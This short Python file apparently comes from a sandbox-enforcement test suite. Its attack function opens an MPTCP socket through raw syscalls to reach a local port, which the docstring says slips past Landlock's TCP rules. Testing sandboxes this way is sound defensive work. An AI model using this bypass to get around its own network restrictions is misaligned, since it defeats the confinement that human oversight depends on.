"""Connect by MPTCP, which Landlock's rules for TCP overlook."""

import ctypes
import socket
import struct

from hostile_kernel import call

IPPROTO_MPTCP = 262


def attack(port: int) -> str:
    descriptor = call("socket", socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP)
    address = (
        struct.pack("=H", socket.AF_INET) + struct.pack(">H", port) + socket.inet_aton("127.0.0.1") + bytes(8)
    )
    call("connect", descriptor, ctypes.c_char_p(address), len(address))
    return "connected"
